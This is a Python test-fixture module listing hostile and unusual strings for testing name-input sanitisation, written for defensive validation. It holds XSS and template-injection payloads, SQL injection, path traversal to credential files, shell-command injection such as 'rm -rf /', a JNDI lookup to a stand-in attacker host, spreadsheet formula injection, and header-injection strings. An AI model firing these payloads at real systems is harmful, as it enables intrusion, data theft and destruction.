"""Hostile and unusual input for everything that accepts a name.

Plain ones must come back unchanged. The others come back clean, or are refused.
"""

from collections.abc import Iterator
from itertools import product
from typing import Final

MARKUP: Final = [
    f"{opening}{inner}{closing}"
    for opening, closing in [("<b>", "</b>"), ("<i ", ">"), ("<!--", "-->"), ("<![CDATA[", "]]>"), ("</td>", "<td>")]
    for inner in ["x", "a=1", "<", '"', "'", "&amp;"]
]
SCRIPT: Final = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x></SCRIPT>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>1</script>",
    "vbscript:msgbox(1)",
    "</script><script>alert(1)//",
    "</title><script>alert(1)//",
    "</textarea><script>alert(1)//",
    "<math><mi xlink:href=data:x>",
    "<details open ontoggle=alert(1)>",
    "<style>@import'//evil.test'</style>",
    "<link rel=stylesheet href=//evil.test>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//evil.test><input>",
    "<object data=//evil.test>",
    "<embed src=//evil.test>",
    "{{7*7}}",
    "{{constructor.constructor('1')()}}",
    "{% raw %}{{ config }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "`alert(1)`",
    "';alert(1);'",
    '";alert(1);"',
    "\\x3cscript\\x3e",
    "&#60;script&#62;",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "onmouseover=alert(1)",
    'x" autofocus onfocus="alert(1)',
]
SQL: Final = [
    "'; drop table people; --",
    '"; drop table people; --',
    "' or '1'='1",
    "' or 1=1 --",
    "1; select pg_sleep(10)",
    "' union select token from sessions --",
    "Robert'); drop table facts;--",
    "%' escape '\\",
    "$1",
    "$$; delete from heads; $$",
    ":name",
    "?",
    "%s",
    "\\'; --",
    "E'\\\\x41'",
    "null",
    "NULL",
    "x'00'",
]
PATHS: Final = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "C:\\con",
    "con",
    "nul",
    "aux.txt",
    "file:///etc/passwd",
    "%2e%2e%2f",
    "....//....//",
    "~root",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "| cat /etc/passwd",
    "&& reboot",
    ".",
    "..",
    "-rf",
    "--help",
    "*",
]
FORMATS: Final = [
    "%n%n%n%n",
    "%s%s%s%s",
    "%x %p %d",
    "%99999d",
    "{0}",
    "{}",
    "{0.__class__}",
    "{self.__init__.__globals__}",
    "%(name)s",
    "$name",
    "${name}",
    "${jndi:ldap://evil.test/x}",
    "$${env:PATH}",
    "%{(#a)}",
    "@{x}",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1)",
    "1e309",
    "NaN",
    "Infinity",
    "0x10",
    "undefined",
    "None",
    "true",
    "[object Object]",
    "__proto__",
    "constructor",
    "hasOwnProperty",
]
JSON: Final = [
    '"',
    '\\"',
    "\\",
    "\\\\",
    '","token":"x',
    '"},{"name":"x',
    "}]}",
    "[[[",
    '{"a":1}',
    "null,",
    "\\u0000",
    "\\ud800",
    "//comment",
    "/*x*/",
    "</",
    "a,b;c|d",
    "'",
    "''",
    "data: x",
    "id: 1",
    "event: end",
    "retry: 1",
    ": still here",
]
TAME: Final = [*MARKUP, *SCRIPT, *SQL, *PATHS, *FORMATS, *JSON]
"""Nothing in them is unclean: each must come back as it was sent."""

INJECTED: Final = [
    f"x{line}{rest}"
    for line, rest in product(
        ["\r\n", "\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "%0d%0a", "\\r\\n"],
        ["Set-Cookie: leftbower=evil", "data: {}", "Location: //evil.test", '{"fact":"acted"}'],
    )
]
CONTROL: Final = [f"a{chr(code)}b" for code in [*range(0x20), *range(0x7F, 0xA0)]]
BIDI: Final = [
    text
    for code in [0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)]
    for text in (f"Ann{chr(code)}gnp.exe", f"{chr(code)}", f"אבג{chr(code)}abc")
]
UNSEEN: Final = [
    text
    for code in [
        0x00AD,
        0x034F,
        0x115F,
        0x1160,
        0x17B4,
        0x180B,
        0x180E,
        0x200B,
        0x200C,
        0x200D,
        0x2060,
        0x2061,
        0x2064,
        0x206A,
        0x206F,
        0x2800,
        0x3164,
        0xFE00,
        0xFE0F,
        0xFEFF,
        0xFFA0,
        0xFFF9,
        0xFFFC,
        0xE0001,
        0xE0041,
        0xE0100,
        0xE01EF,
        0x1D173,
    ]
    for text in (f"An{chr(code)}n", chr(code) * 3)
]
UNASSIGNED: Final = [f"x{chr(code)}y" for code in [0x0378, 0xFDD0, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF, 0x2FE0, 0x40000]]
PRIVATE: Final = [f"x{chr(code)}y" for code in [0xE000, 0xF8FF, 0xF0000, 0x10FFFD]]
SURROGATES: Final = [f"x{chr(code)}y" for code in [0xD800, 0xDBFF, 0xDC00, 0xDFFF]] + ["\udc00\ud800"]
ZALGO: Final = [
    "Z" + "\u0300" * 30,
    "".join(letter + "\u0337\u0321\u034d\u0311\u0348\u0353\u030a" for letter in "Zalgo"),
    "\u0301\u0302\u0303x",
    " \u0301",
    "e" + "\u0301\u0300" * 10,
    "a\u20dd\u20dd\u20dd\u20dd\u20dd\u20dd",
    "\u0e01" + "\u0e49" * 20,
    "ส็็็็็็็็็็็็็",
]
LONG: Final = [
    "x" * 41,
    "x" * 61,
    "x" * 200,
    "x" * 201,
    "x" * 5000,
    "👩‍👩‍👧" * 41,
    "é" * 61,
    "\u200b" * 200,
    " " * 201,
    "",
]
UNCLEAN: Final = [*INJECTED, *CONTROL, *BIDI, *UNSEEN, *UNASSIGNED, *PRIVATE, *SURROGATES, *ZALGO, *LONG]

CLEANED: Final = {
    "  Ann \t Lee\n": "Ann Lee",
    "pay\u200bpal": "paypal",
    "Ro\u202ebert": "Robert",
    "e\u0301": "é",
    "Zoë": "Zoë",
    "\ufeffAnn": "Ann",
    "Ann\u00a0Lee": "Ann Lee",
    "Ann\u3000Lee": "Ann Lee",
    "a\x00b": "a b",
    "👩\u200d👩\u200d👧": "👩\u200d👩\u200d👧",
    "👍🏽": "👍🏽",
    "❤\ufe0f": "❤\ufe0f",
    "🏳\ufe0f\u200d🌈": "🏳\ufe0f\u200d🌈",
    "1\ufe0f\u20e3": "1\ufe0f\u20e3",
    "🇩🇪🇫🇷": "🇩🇪🇫🇷",
    "\ufe0f\u20e3x": "x",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f": "🏴",
    "x\u200dy": "xy",
    "👩\u200d": "👩",
    "\u200d👩": "👩",
    "x\ufe0f": "x",
    "한국어": "한국어",
    "\u1112\u1161\u11ab": "한",
    "नमस्ते": "नमस्ते",
    "שָׁלוֹם": "שָׁלוֹם",
    "السلام": "السلام",
    "ภาษาไทย": "ภาษาไทย",
    "བརྒྱུད": "བརྒྱུད",
    "Đặng Thị": "Đặng Thị",
    "Z" + "\u0300" * 30: "Z\u0300\u0300\u0300\u0300",
    "𝕬𝖓𝖓": "𝕬𝖓𝖓",
    "Åsa": "Åsa",
    "\u212b": "Å",
}
"""Checked by hand: the cleaned form of names that are less plain than they look, or only look strange."""


def everything() -> Iterator[str]:
    """All of them, once."""
    yield from dict.fromkeys([*TAME, *UNCLEAN, *CLEANED])
